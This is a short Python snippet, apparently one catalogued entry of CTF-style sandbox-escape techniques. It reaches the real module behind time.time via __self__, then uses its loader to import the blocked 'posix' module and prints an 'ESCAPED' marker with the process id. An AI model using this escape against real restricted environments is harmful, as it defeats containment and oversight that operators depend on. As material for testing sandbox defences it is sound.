# technique: time.time.__self__ is the real module behind a view
# goal: import
# source: CTF folklore
import time
real = time.time.__self__
print('ESCAPED pid=%d' % real.__loader__.load_module('posix').getpid())
